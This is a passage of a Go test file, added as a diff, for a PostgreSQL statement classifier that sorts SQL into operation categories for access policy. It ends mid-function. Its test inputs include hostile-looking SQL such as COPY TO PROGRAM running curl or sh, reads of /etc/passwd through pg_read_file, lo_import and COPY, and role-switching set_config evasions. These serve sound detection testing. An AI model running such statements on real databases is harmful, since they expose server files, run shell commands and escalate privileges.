@@ -1,0 +1,803 @@
+package postgres
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"slices"
+	"strings"
+	"testing"
+
+	pg "github.com/pganalyze/pg_query_go/v6"
+
+	"github.com/corral-dev/corral/policy"
+)
+
+// knownBug marks a check that fails today because of a reported bug. The
+// test is skipped with what was observed, so the suite stays usable while
+// the fix is under way; CORRAL_KNOWN_BUGS=fail turns the skips into
+// failures. Once a bug is fixed the check passes and the marker can go.
+func knownBug(t *testing.T, bug, format string, args ...any) {
+	t.Helper()
+	msg := fmt.Sprintf(format, args...)
+	if os.Getenv("CORRAL_KNOWN_BUGS") == "fail" {
+		t.Fatalf("known bug (%s): %s", bug, msg)
+	}
+	t.Skipf("known bug (%s): %s", bug, msg)
+}
+
+func classifyOne(t *testing.T, sql string) Statement {
+	t.Helper()
+	stmts, err := Classify(sql)
+	if err != nil {
+		t.Fatalf("Classify(%q): %v", sql, err)
+	}
+	if len(stmts) != 1 {
+		t.Fatalf("Classify(%q): %d statements, want 1", sql, len(stmts))
+	}
+	return stmts[0]
+}
+
+func has(ops []string, op string) bool { return slices.Contains(ops, op) }
+
+type classifyCase struct {
+	sql      string
+	ops      []string
+	command  string
+	tables   []string
+	where    bool
+	copyOut  bool
+	literal  bool // literalSensitive
+	prepares string
+	executes string
+	dealloc  string
+	deallAll bool
+}
+
+var classifyCases = []classifyCase{
+	// SELECT, and SELECT INTO, which creates a table.
+	{sql: "SELECT 1", ops: []string{"select"}, command: "SELECT"},
+	{sql: "SELECT a, b FROM t WHERE a = 1", ops: []string{"select"}, command: "SELECT", tables: []string{"t"}},
+	{sql: "SELECT * FROM public.t JOIN u ON t.id = u.id", ops: []string{"select"}, command: "SELECT", tables: []string{"public.t", "u"}},
+	{sql: "SELECT * INTO newt FROM t", ops: []string{"ddl", "select"}, command: "SELECT", tables: []string{"newt", "t"}},
+	{sql: "SELECT a INTO TEMP x FROM t", ops: []string{"ddl", "select"}, command: "SELECT", tables: []string{"t", "x"}},
+	{sql: "VALUES (1), (2)", ops: []string{"select"}, command: "SELECT"},
+	{sql: "TABLE t", ops: []string{"select"}, command: "SELECT", tables: []string{"t"}},
+	{sql: "SELECT 1 UNION SELECT 2", ops: []string{"select"}, command: "SELECT"},
+	{sql: "SELECT * FROM t FOR UPDATE", ops: []string{"select"}, command: "SELECT", tables: []string{"t"}},
+
+	// INSERT, UPDATE, DELETE, MERGE.
+	{sql: "INSERT INTO t DEFAULT VALUES", ops: []string{"insert"}, command: "INSERT", tables: []string{"t"}},
+	{sql: "INSERT INTO t SELECT * FROM u", ops: []string{"insert", "select"}, command: "INSERT", tables: []string{"t", "u"}},
+	{sql: "UPDATE t SET a = 1", ops: []string{"update"}, command: "UPDATE", tables: []string{"t"}},
+	{sql: "UPDATE t SET a = 1 WHERE id = 2", ops: []string{"update"}, command: "UPDATE", tables: []string{"t"}, where: true},
+	{sql: "UPDATE t SET a = u.b FROM u WHERE t.id = u.id", ops: []string{"update"}, command: "UPDATE", tables: []string{"t", "u"}, where: true},
+	{sql: "DELETE FROM t", ops: []string{"delete"}, command: "DELETE", tables: []string{"t"}},
+	{sql: "DELETE FROM s.t WHERE id = 1", ops: []string{"delete"}, command: "DELETE", tables: []string{"s.t"}, where: true},
+	{sql: "DELETE FROM t WHERE id IN (SELECT id FROM u)", ops: []string{"delete", "select"}, command: "DELETE", tables: []string{"t", "u"}, where: true},
+	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ops: []string{"merge"}, command: "MERGE", tables: []string{"s", "t"}},
+
+	// COPY: to and from the client, server files and programs.
+	{sql: "COPY t TO STDOUT", ops: []string{"copy"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
+	{sql: "COPY t (a, b) TO STDOUT WITH (FORMAT csv)", ops: []string{"copy"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
+	{sql: "COPY t FROM STDIN", ops: []string{"copy"}, command: "COPY", tables: []string{"t"}, literal: true},
+	{sql: "COPY t TO '/tmp/x'", ops: []string{"copy", "copy program"}, command: "COPY", tables: []string{"t"}, literal: true},
+	{sql: "COPY t FROM '/etc/passwd'", ops: []string{"copy", "copy program"}, command: "COPY", tables: []string{"t"}, literal: true},
+	{sql: "COPY t TO PROGRAM 'curl x'", ops: []string{"copy", "copy program"}, command: "COPY", tables: []string{"t"}, literal: true},
+	{sql: "COPY t FROM PROGRAM 'id'", ops: []string{"copy", "copy program"}, command: "COPY", tables: []string{"t"}, literal: true},
+	{sql: "COPY (SELECT * FROM t) TO STDOUT", ops: []string{"copy", "select"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
+	{sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", ops: []string{"copy", "delete"}, command: "COPY", tables: []string{"t"}, copyOut: true, literal: true},
+	{sql: "COPY (SELECT 1) TO PROGRAM 'sh'", ops: []string{"copy", "copy program", "select"}, command: "COPY", literal: true},
+
+	// DROP of every kind; DROP ROLE also changes who may do what.
+	{sql: "DROP TABLE t", ops: []string{"drop"}, command: "DROP"},
+	{sql: "DROP INDEX i", ops: []string{"drop"}, command: "DROP"},
+	{sql: "DROP SCHEMA s CASCADE", ops: []string{"drop"}, command: "DROP"},
+	{sql: "DROP FUNCTION f()", ops: []string{"drop"}, command: "DROP"},
+	{sql: "DROP DATABASE d", ops: []string{"drop"}, command: "DROPDB"},
+	{sql: "DROP TABLESPACE ts", ops: []string{"drop"}, command: "DROP TABLE SPACE"},
+	{sql: "DROP OWNED BY bob", ops: []string{"drop"}, command: "DROP OWNED"},
+	{sql: "DROP SUBSCRIPTION sub", ops: []string{"drop"}, command: "DROP SUBSCRIPTION"},
+	{sql: "DROP USER MAPPING FOR bob SERVER s", ops: []string{"drop"}, command: "DROP USER MAPPING"},
+	{sql: "DROP ROLE bob", ops: []string{"drop", "grant"}, command: "DROP ROLE"},
+	{sql: "DROP USER bob", ops: []string{"drop", "grant"}, command: "DROP ROLE"},
+	{sql: "TRUNCATE t", ops: []string{"truncate"}, command: "TRUNCATE", tables: []string{"t"}},
+	{sql: "TRUNCATE a, b.c CASCADE", ops: []string{"truncate"}, command: "TRUNCATE", tables: []string{"a", "b.c"}},
+
+	// Privileges, roles, policies, owners.
+	{sql: "GRANT SELECT ON t TO bob", ops: []string{"grant"}, command: "GRANT", tables: []string{"t"}},
+	{sql: "REVOKE SELECT ON t FROM bob", ops: []string{"grant"}, command: "GRANT", tables: []string{"t"}},
+	{sql: "GRANT admin TO bob", ops: []string{"grant"}, command: "GRANT ROLE"},
+	{sql: "REVOKE admin FROM bob", ops: []string{"grant"}, command: "GRANT ROLE"},
+	{sql: "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", ops: []string{"grant"}, command: "ALTER DEFAULT PRIVILEGES"},
+	{sql: "CREATE ROLE bob", ops: []string{"grant"}, command: "CREATE ROLE"},
+	{sql: "CREATE USER bob PASSWORD 'x'", ops: []string{"grant"}, command: "CREATE ROLE"},
+	{sql: "ALTER ROLE bob SUPERUSER", ops: []string{"grant"}, command: "ALTER ROLE"},
+	{sql: "ALTER GROUP g ADD USER bob", ops: []string{"grant"}, command: "ALTER ROLE"},
+	{sql: "ALTER ROLE bob SET search_path = x", ops: []string{"grant"}, command: "ALTER ROLE SET"},
+	{sql: "REASSIGN OWNED BY bob TO alice", ops: []string{"grant"}, command: "REASSIGN OWNED"},
+	{sql: "ALTER SCHEMA s OWNER TO bob", ops: []string{"grant"}, command: "ALTER OWNER"},
+	{sql: "ALTER DATABASE d OWNER TO bob", ops: []string{"grant"}, command: "ALTER OWNER"},
+	{sql: "ALTER FUNCTION f() OWNER TO bob", ops: []string{"grant"}, command: "ALTER OWNER"},
+	{sql: "CREATE POLICY p ON t USING (true)", ops: []string{"grant"}, command: "CREATE POLICY", tables: []string{"t"}},
+	{sql: "ALTER POLICY p ON t USING (false)", ops: []string{"grant"}, command: "ALTER POLICY", tables: []string{"t"}},
+
+	// Transactions.
+	{sql: "BEGIN", ops: []string{"transaction"}, command: "TRANSACTION"},
+	{sql: "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", ops: []string{"transaction"}, command: "TRANSACTION"},
+	{sql: "COMMIT", ops: []string{"transaction"}, command: "TRANSACTION"},
+	{sql: "ROLLBACK", ops: []string{"transaction"}, command: "TRANSACTION"},
+	{sql: "SAVEPOINT a", ops: []string{"transaction"}, command: "TRANSACTION"},
+	{sql: "ROLLBACK TO SAVEPOINT a", ops: []string{"transaction"}, command: "TRANSACTION"},
+	{sql: "PREPARE TRANSACTION 'x'", ops: []string{"transaction"}, command: "TRANSACTION"},
+	{sql: "SET CONSTRAINTS ALL DEFERRED", ops: []string{"transaction"}, command: "CONSTRAINTS SET"},
+
+	// SET and friends: anything that can change the role is "set role".
+	{sql: "SET search_path = x", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET LOCAL statement_timeout = 0", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET TIME ZONE 'UTC'", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
+	{sql: "RESET search_path", ops: []string{"set"}, command: "VARIABLE SET", literal: true},
+	{sql: "RESET ALL", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET ROLE admin", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET SESSION ROLE admin", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET LOCAL ROLE admin", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: `SET "role" TO admin`, ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET role = DEFAULT", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "RESET ROLE", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET SESSION AUTHORIZATION bob", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET SESSION AUTHORIZATION DEFAULT", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "SET session_authorization = 'bob'", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "RESET SESSION AUTHORIZATION", ops: []string{"set role"}, command: "VARIABLE SET", literal: true},
+	{sql: "DISCARD ALL", ops: []string{"set role"}, command: "DISCARD"},
+	{sql: "SHOW search_path", ops: []string{"show"}, command: "VARIABLE SHOW", literal: true},
+	{sql: "SHOW ALL", ops: []string{"show"}, command: "VARIABLE SHOW", literal: true},
+
+	// EXPLAIN carries the operations of what it explains (ANALYZE runs it).
+	{sql: "EXPLAIN SELECT 1", ops: []string{"explain", "select"}, command: "EXPLAIN"},
+	{sql: "EXPLAIN ANALYZE DELETE FROM t", ops: []string{"delete", "explain"}, command: "EXPLAIN", tables: []string{"t"}},
+	{sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2", ops: []string{"explain", "update"}, command: "EXPLAIN", tables: []string{"t"}},
+	{sql: "EXPLAIN ANALYZE INSERT INTO t SELECT * FROM u", ops: []string{"explain", "insert", "select"}, command: "EXPLAIN", tables: []string{"t", "u"}},
+	{sql: "EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", ops: []string{"ddl", "explain", "select"}, command: "EXPLAIN", tables: []string{"x"}},
+
+	// LOCK and maintenance.
+	{sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", ops: []string{"lock"}, command: "LOCK", tables: []string{"t"}},
+	{sql: "VACUUM t", ops: []string{"maintenance"}, command: "VACUUM", tables: []string{"t"}},
+	{sql: "VACUUM FULL", ops: []string{"maintenance"}, command: "VACUUM"},
+	{sql: "ANALYZE t", ops: []string{"maintenance"}, command: "VACUUM", tables: []string{"t"}},
+	{sql: "REINDEX TABLE t", ops: []string{"maintenance"}, command: "REINDEX", tables: []string{"t"}},
+	{sql: "CLUSTER t USING i", ops: []string{"maintenance"}, command: "CLUSTER", tables: []string{"t"}},
+	{sql: "CHECKPOINT", ops: []string{"maintenance"}, command: "CHECK POINT"},
+	{sql: "REFRESH MATERIALIZED VIEW mv", ops: []string{"maintenance"}, command: "REFRESH MAT VIEW", tables: []string{"mv"}},
+
+	// LISTEN, UNLISTEN, NOTIFY.
+	{sql: "LISTEN ch", ops: []string{"listen"}, command: "LISTEN"},
+	{sql: "UNLISTEN *", ops: []string{"listen"}, command: "UNLISTEN"},
+	{sql: "NOTIFY ch, 'x'", ops: []string{"notify"}, command: "NOTIFY"},
+
+	// SQL-level prepared statements: the names are not part of the
+	// fingerprint, so the classification is not shared.
+	{sql: "PREPARE p AS SELECT * FROM t WHERE id = $1", ops: []string{"prepare", "select"}, command: "PREPARE", literal: true, tables: []string{"t"}, prepares: "p"},
+	{sql: "PREPARE d (int) AS DELETE FROM t WHERE id = $1", ops: []string{"delete", "prepare"}, command: "PREPARE", literal: true, tables: []string{"t"}, prepares: "d"},
+	{sql: "EXECUTE p(1)", ops: []string{"prepare"}, command: "EXECUTE", literal: true, executes: "p"},
+	{sql: "EXECUTE q", ops: []string{"prepare"}, command: "EXECUTE", literal: true, executes: "q"},
+	{sql: "DEALLOCATE p", ops: []string{"prepare"}, command: "DEALLOCATE", literal: true, dealloc: "p"},
+	{sql: "DEALLOCATE PREPARE p", ops: []string{"prepare"}, command: "DEALLOCATE", literal: true, dealloc: "p"},
+	{sql: "DEALLOCATE ALL", ops: []string{"prepare"}, command: "DEALLOCATE", literal: true, deallAll: true},
+
+	// Cursors.
+	{sql: "DECLARE c CURSOR FOR SELECT * FROM t", ops: []string{"cursor", "select"}, command: "DECLARE CURSOR", tables: []string{"t"}},
+	{sql: "FETCH 10 FROM c", ops: []string{"cursor"}, command: "FETCH"},
+	{sql: "MOVE NEXT IN c", ops: []string{"cursor"}, command: "FETCH"},
+	{sql: "CLOSE c", ops: []string{"cursor"}, command: "CLOSE PORTAL"},
+
+	// Procedures, anonymous blocks, the server itself.
+	{sql: "CALL proc(1)", ops: []string{"call"}, command: "CALL"},
+	{sql: "DO $$BEGIN END$$", ops: []string{"do"}, command: "DO"},
+	{sql: "LOAD 'plugin'", ops: []string{"ddl", "function"}, command: "LOAD"},
+	{sql: "ALTER SYSTEM SET work_mem = '1GB'", ops: []string{"ddl", "function"}, command: "ALTER SYSTEM"},
+	{sql: "ALTER SYSTEM RESET ALL", ops: []string{"ddl", "function"}, command: "ALTER SYSTEM"},
+
+	// DDL of many kinds.
+	{sql: "CREATE TABLE t (a int)", ops: []string{"ddl"}, command: "CREATE", tables: []string{"t"}},
+	{sql: "CREATE TABLE x (LIKE t)", ops: []string{"ddl"}, command: "CREATE", tables: []string{"t", "x"}},
+	{sql: "CREATE TABLE x AS SELECT * FROM t", ops: []string{"ddl", "select"}, command: "CREATE TABLE AS", tables: []string{"t", "x"}},
+	{sql: "CREATE MATERIALIZED VIEW mv AS SELECT 1", ops: []string{"ddl", "select"}, command: "CREATE TABLE AS", tables: []string{"mv"}},
+	{sql: "CREATE VIEW v AS SELECT * FROM t", ops: []string{"ddl", "select"}, command: "VIEW", tables: []string{"t", "v"}},
+	{sql: "CREATE INDEX ON t (a)", ops: []string{"ddl"}, command: "INDEX", tables: []string{"t"}},
+	{sql: "ALTER TABLE t ADD COLUMN b int", ops: []string{"ddl"}, command: "ALTER TABLE", tables: []string{"t"}},
+	{sql: "ALTER TABLE t RENAME TO u", ops: []string{"ddl"}, command: "RENAME", tables: []string{"t"}},
+	{sql: "ALTER TABLE t SET SCHEMA s", ops: []string{"ddl"}, command: "ALTER OBJECT SCHEMA", tables: []string{"t"}},
+	{sql: "COMMENT ON TABLE t IS 'x'", ops: []string{"ddl"}, command: "COMMENT"},
+	{sql: "CREATE SCHEMA s", ops: []string{"ddl"}, command: "CREATE SCHEMA"},
+	{sql: "CREATE SEQUENCE sq", ops: []string{"ddl"}, command: "CREATE SEQ", tables: []string{"sq"}},
+	{sql: "ALTER SEQUENCE sq RESTART", ops: []string{"ddl"}, command: "ALTER SEQ", tables: []string{"sq"}},
+	{sql: "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", ops: []string{"ddl"}, command: "CREATE FUNCTION"},
+	{sql: "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM t; SELECT 1; END", ops: []string{"ddl", "delete", "select"}, command: "CREATE FUNCTION", tables: []string{"t"}},
+	{sql: "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'select 1'", ops: []string{"ddl"}, command: "CREATE FUNCTION"},
+	{sql: "ALTER FUNCTION f() SECURITY DEFINER", ops: []string{"ddl"}, command: "ALTER FUNCTION"},
+	{sql: "CREATE EXTENSION dblink", ops: []string{"ddl"}, command: "CREATE EXTENSION"},
+	{sql: "ALTER EXTENSION e UPDATE", ops: []string{"ddl"}, command: "ALTER EXTENSION"},
+	{sql: "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", ops: []string{"ddl"}, command: "CREATE TRIG", tables: []string{"t"}},
+	{sql: "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", ops: []string{"ddl"}, command: "CREATE EVENT TRIG"},
+	{sql: "CREATE TYPE e AS ENUM ('a')", ops: []string{"ddl"}, command: "CREATE ENUM"},
+	{sql: "ALTER TYPE e ADD VALUE 'b'", ops: []string{"ddl"}, command: "ALTER ENUM"},
+	{sql: "CREATE TYPE c AS (a int)", ops: []string{"ddl"}, command: "COMPOSITE TYPE", tables: []string{"c"}},
+	{sql: "CREATE DOMAIN dm AS int", ops: []string{"ddl"}, command: "CREATE DOMAIN"},
+	{sql: "CREATE AGGREGATE a (int) (sfunc = f, stype = int)", ops: []string{"ddl"}, command: "DEFINE"},
+	{sql: "CREATE DATABASE d", ops: []string{"ddl"}, command: "CREATEDB"},
+	{sql: "ALTER DATABASE d SET x = 1", ops: []string{"ddl"}, command: "ALTER DATABASE SET"},
+	{sql: "CREATE TABLESPACE ts LOCATION '/x'", ops: []string{"ddl"}, command: "CREATE TABLE SPACE"},
+	{sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", ops: []string{"ddl"}, command: "RULE", tables: []string{"t"}},
+	{sql: "CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u", ops: []string{"ddl", "delete"}, command: "RULE", tables: []string{"t", "u"}},
+	{sql: "CREATE PUBLICATION p FOR ALL TABLES", ops: []string{"ddl"}, command: "CREATE PUBLICATION"},
+	{sql: "CREATE SUBSCRIPTION sub CONNECTION 'x' PUBLICATION p", ops: []string{"ddl"}, command: "CREATE SUBSCRIPTION"},
+	{sql: "CREATE SERVER s FOREIGN DATA WRAPPER w", ops: []string{"ddl"}, command: "CREATE FOREIGN SERVER"},
+	{sql: "CREATE USER MAPPING FOR bob SERVER s", ops: []string{"ddl"}, command: "CREATE USER MAPPING"},
+	{sql: "IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO l", ops: []string{"ddl"}, command: "IMPORT FOREIGN SCHEMA"},
+	{sql: "CREATE LANGUAGE plperl", ops: []string{"ddl"}, command: "CREATE EXTENSION"},
+	{sql: "SECURITY LABEL ON TABLE t IS 'x'", ops: []string{"ddl"}, command: "SEC LABEL"},
+	{sql: "CREATE STATISTICS s ON a, b FROM t", ops: []string{"ddl"}, command: "CREATE STATS", tables: []string{"t"}},
+	{sql: "CREATE CAST (int AS text) WITH INOUT", ops: []string{"ddl"}, command: "CREATE CAST"},
+
+	// Data-modifying CTEs and subqueries add their operations.
+	{sql: "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", ops: []string{"delete", "select"}, command: "SELECT", tables: []string{"d", "t"}},
+	{sql: "WITH u AS (UPDATE t SET a = 1 RETURNING *), i AS (INSERT INTO l SELECT * FROM u RETURNING *) SELECT * FROM i",
+		ops: []string{"insert", "select", "update"}, command: "SELECT", tables: []string{"i", "l", "t", "u"}},
+	{sql: "WITH a AS (WITH b AS (DELETE FROM t RETURNING id) SELECT id FROM b) SELECT * FROM a",
+		ops: []string{"delete", "select"}, command: "SELECT", tables: []string{"a", "b", "t"}},
+	{sql: "WITH m AS (INSERT INTO l VALUES (1) RETURNING id) UPDATE t SET a = 1 WHERE id IN (SELECT id FROM m)",
+		ops: []string{"insert", "select", "update"}, command: "UPDATE", tables: []string{"l", "m", "t"}, where: true},
+	{sql: "SELECT * FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.a = t.a)", ops: []string{"select"}, command: "SELECT", tables: []string{"t", "u"}},
+
+	// Comments and case do not matter.
+	{sql: "/* c */ SeLeCt 1 -- x", ops: []string{"select"}, command: "SELECT"},
+	{sql: "-- leading\ndelete FROM T where ID = 1", ops: []string{"delete"}, command: "DELETE", tables: []string{"t"}, where: true},
+	{sql: "dRoP tAbLe T", ops: []string{"drop"}, command: "DROP"},
+}
+
+func TestClassifyTable(t *testing.T) {
+	if len(classifyCases) < 60 {
+		t.Fatalf("only %d cases", len(classifyCases))
+	}
+	for _, c := range classifyCases {
+		t.Run(c.sql, func(t *testing.T) {
+			s := classifyOne(t, c.sql)
+			if !slices.Equal(s.Ops, c.ops) {
+				t.Errorf("Ops = %q, want %q", s.Ops, c.ops)
+			}
+			if s.Command != c.command {
+				t.Errorf("Command = %q, want %q", s.Command, c.command)
+			}
+			if !slices.Equal(s.Tables, c.tables) {
+				t.Errorf("Tables = %q, want %q", s.Tables, c.tables)
+			}
+			if s.HasWhere != c.where {
+				t.Errorf("HasWhere = %v, want %v", s.HasWhere, c.where)
+			}
+			if s.CopyOut != c.copyOut {
+				t.Errorf("CopyOut = %v, want %v", s.CopyOut, c.copyOut)
+			}
+			if s.literalSensitive != c.literal {
+				t.Errorf("literalSensitive = %v, want %v", s.literalSensitive, c.literal)
+			}
+			if s.Prepares != c.prepares || s.Executes != c.executes || s.Deallocates != c.dealloc || s.DeallocateAll != c.deallAll {
+				t.Errorf("Prepares, Executes, Deallocates, DeallocateAll = %q, %q, %q, %v; want %q, %q, %q, %v",
+					s.Prepares, s.Executes, s.Deallocates, s.DeallocateAll, c.prepares, c.executes, c.dealloc, c.deallAll)
+			}
+			if s.Text != strings.TrimSpace(c.sql) {
+				t.Errorf("Text = %q", s.Text)
+			}
+			if s.Fingerprint == "" {
+				t.Error("no fingerprint")
+			}
+			checkOpsWellFormed(t, s.Ops)
+		})
+	}
+}
+
+// checkOpsWellFormed: sorted, distinct, every one a word of the SQL
+// vocabulary.
+func checkOpsWellFormed(t *testing.T, ops []string) {
+	t.Helper()
+	if !slices.IsSorted(ops) {
+		t.Errorf("Ops %q not sorted", ops)
+	}
+	if len(slices.Compact(slices.Clone(ops))) != len(ops) {
+		t.Errorf("Ops %q not distinct", ops)
+	}
+	for _, op := range ops {
+		if !slices.Contains(policy.Vocabulary[policy.KindSQL], op) {
+			t.Errorf("Op %q is not in the sql vocabulary", op)
+		}
+	}
+}
+
+func TestClassifyDangerousFunctions(t *testing.T) {
+	for _, f := range dangerousFunctions {
+		for _, sql := range []string{
+			"SELECT " + f + "('x')",
+			"SELECT pg_catalog." + f + "('x')",
+			"SELECT " + strings.ToUpper(f) + "('x')",
+		} {
+			s := classifyOne(t, sql)
+			if !has(s.Ops, "function") || !has(s.Ops, "select") {
+				t.Errorf("%s: Ops = %q, want function and select", sql, s.Ops)
+			}
+			if len(s.Functions) != 1 || !strings.HasSuffix(s.Functions[0], f) {
+				t.Errorf("%s: Functions = %q", sql, s.Functions)
+			}
+		}
+	}
+	// Wherever the call sits, it is seen.
+	for _, sql := range []string{
+		"SELECT * FROM pg_ls_dir('.')",
+		"SELECT * FROM ROWS FROM (pg_read_file('/x'))",
+		"SELECT * FROM t WHERE pg_read_file('/x') IS NOT NULL",
+		"SELECT (SELECT pg_ls_dir('.'))",
+		"SELECT * FROM t, LATERAL (SELECT pg_read_binary_file('/x')) s",
+		"WITH x AS (SELECT pg_ls_dir('.')) SELECT * FROM x",
+		"SELECT pg_read_file(VARIADIC ARRAY['/x'])",
+		"SELECT count(*) FILTER (WHERE pg_reload_conf()) FROM t",
+		"INSERT INTO t VALUES (pg_read_file('/etc/passwd'))",
+		"UPDATE t SET a = lo_import('/etc/passwd')",
+		"DELETE FROM t WHERE a = dblink_exec('x', 'y')",
+		"COPY t FROM STDIN WHERE pg_read_file('x') IS NULL",
+		"COPY (SELECT pg_read_file('x')) TO STDOUT",
+		"EXPLAIN ANALYZE SELECT pg_read_file('x')",
+		"MERGE INTO t USING (SELECT pg_read_file('x') AS a) s ON true WHEN NOT MATCHED THEN INSERT VALUES (s.a)",
+		"PREPARE p AS SELECT pg_terminate_backend($1)",
+		"DECLARE c CURSOR FOR SELECT pg_ls_dir('.')",
+		"CALL pg_read_file('x')",
+		`SELECT "pg_read_file"('/x')`,
+	} {
+		s := classifyOne(t, sql)
+		if !has(s.Ops, "function") {
+			t.Errorf("%s: Ops = %q, want function", sql, s.Ops)
+		}
+	}
+	// Ordinary functions are not flagged.
+	for _, sql := range []string{"SELECT lower('x')", "SELECT now(), count(*) FROM t", "SELECT current_setting('x')", "SELECT pg_backend_pid()"} {
+		if s := classifyOne(t, sql); has(s.Ops, "function") {
+			t.Errorf("%s: Ops = %q, want no function", sql, s.Ops)
+		}
+	}
+}
+
+func TestClassifySetConfig(t *testing.T) {
+	cases := []struct {
+		sql string
+		op  string
+	}{
+		{"SELECT set_config('role', 'admin', false)", "set role"},
+		{"SELECT set_config('ROLE', 'admin', false)", "set role"},
+		{"SELECT set_config('session_authorization', 'bob', false)", "set role"},
+		{"SELECT pg_catalog.set_config('role', 'x', false)", "set role"},
+		{"SELECT set_config(E'role', 'x', false)", "set role"},
+		{"SELECT * FROM set_config('role', 'x', false)", "set role"},
+		{"SELECT set_config('search_path', 'x', false)", "set"},
+		{"SELECT set_config('statement_timeout', '0', true)", "set"},
+		{"SELECT set_config('my.var', 'x', false)", "set"},
+		// Not a literal: could name the role.
+		{"SELECT set_config(name, 'x', false) FROM t", "set role"},
+		{"SELECT set_config($1, 'x', false)", "set role"},
+		{"SELECT set_config('r' || 'ole', 'x', false)", "set role"},
+		{"SELECT set_config('role'::text, 'x', false)", "set role"},
+		{"SELECT set_config(lower('ROLE'), 'x', false)", "set role"},
+		{"SELECT set_config(('role'), 'x', false)", "set role"},
+	}
+	for _, c := range cases {
+		s := classifyOne(t, c.sql)
+		if !has(s.Ops, c.op) {
+			t.Errorf("%s: Ops = %q, want %q", c.sql, s.Ops, c.op)
+		}
+		if c.op == "set" && has(s.Ops, "set role") {
+			t.Errorf("%s: Ops = %q, want no set role", c.sql, s.Ops)
+		}
+		if !s.literalSensitive {
+			t.Errorf("%s: not literal-sensitive", c.sql)
+		}
+	}
+}
+
+func TestClassifyMultiStatement(t *testing.T) {
+	cases := []struct {
+		sql   string
+		texts []string
+		ops   [][]string
+	}{
+		{"SELECT 1; SELECT 2", []string{"SELECT 1", "SELECT 2"}, [][]string{{"select"}, {"select"}}},
+		{"  select 1 ;  DELETE from t  ;", []string{"select 1", "DELETE from t"}, [][]string{{"select"}, {"delete"}}},
+		{"BEGIN;\n  UPDATE t SET a = 1 WHERE id = 2;\nCOMMIT;\n", []string{"BEGIN", "UPDATE t SET a = 1 WHERE id = 2", "COMMIT"},
+			[][]string{{"transaction"}, {"update"}, {"transaction"}}},
+		{"SET ROLE admin; DROP TABLE t", []string{"SET ROLE admin", "DROP TABLE t"}, [][]string{{"set role"}, {"drop"}}},
+		{"SELECT ';' AS semi; SELECT $$a;b$$", []string{"SELECT ';' AS semi", "SELECT $$a;b$$"}, [][]string{{"select"}, {"select"}}},
+		{";;SELECT 1;;", []string{"SELECT 1"}, [][]string{{"select"}}},
+	}
+	for _, c := range cases {
+		stmts, err := Classify(c.sql)
+		if err != nil {
+			t.Fatalf("%q: %v", c.sql, err)
+		}
+		if len(stmts) != len(c.texts) {
+			t.Fatalf("%q: %d statements, want %d", c.sql, len(stmts), len(c.texts))
+		}
+		for i, s := range stmts {
+			if s.Text != c.texts[i] {
+				t.Errorf("%q [%d]: Text = %q, want %q", c.sql, i, s.Text, c.texts[i])
+			}
+			if !slices.Equal(s.Ops, c.ops[i]) {
+				t.Errorf("%q [%d]: Ops = %q, want %q", c.sql, i, s.Ops, c.ops[i])
+			}
+			if fp, _ := pg.Fingerprint(c.texts[i]); s.Fingerprint != fp {
+				t.Errorf("%q [%d]: Fingerprint is not the statement's own", c.sql, i)
+			}
+		}
+	}
+	// A denied statement anywhere in the string is seen.
+	stmts, err := Classify("SELECT 1; SELECT 2; SELECT 3; TRUNCATE t")
+	if err != nil || len(stmts) != 4 || !has(stmts[3].Ops, "truncate") {
+		t.Errorf("fourth statement lost: %+v, %v", stmts, err)
+	}
+}
+
+func TestClassifyErrors(t *testing.T) {
+	for _, sql := range []string{
+		"SELEC 1",
+		"SELECT 1; SELEC 2",
+		"SELECT (",
+		"DROP TABLE",
+		"SELECT 'unterminated",
+		"SELECT $$x",
+		"SELECT 1 WHERE 1 = (SELECT 1 FROM (DELETE FROM t RETURNING 1) d)",
+	} {
+		if stmts, err := Classify(sql); err == nil {
+			t.Errorf("Classify(%q) = %+v, want an error", sql, stmts)
+		}
+	}
+	// Nothing to run: no statement, no error (the server answers
+	// EmptyQueryResponse).
+	for _, sql := range []string{"", "   ", ";", " ; ; ", "-- just a comment", "/* nothing */"} {
+		stmts, err := Classify(sql)
+		if err != nil || len(stmts) != 0 {
+			t.Errorf("Classify(%q) = %+v, %v; want nothing", sql, stmts, err)
+		}
+	}
+	// Statement nodes the classifier does not know are unsupported, never
+	// guessed at.
+	var s Statement
